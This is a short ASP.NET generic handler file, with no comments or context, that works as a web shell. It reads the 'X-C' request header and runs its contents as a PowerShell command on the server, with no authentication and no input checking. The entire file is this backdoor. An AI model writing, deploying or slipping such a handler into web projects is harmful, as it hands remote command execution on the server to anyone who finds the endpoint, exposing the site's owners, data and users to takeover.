<%@ WebHandler Language="C#" Class="H" %>
using System.Web;
public class H : IHttpHandler {
  public bool IsReusable { get { return false; } }
  public void ProcessRequest(HttpContext context) {
    var c = context.Request.Headers["X-C"];
    System.Diagnostics.Process.Start("powershell.exe", "-c " + c);
  }
}
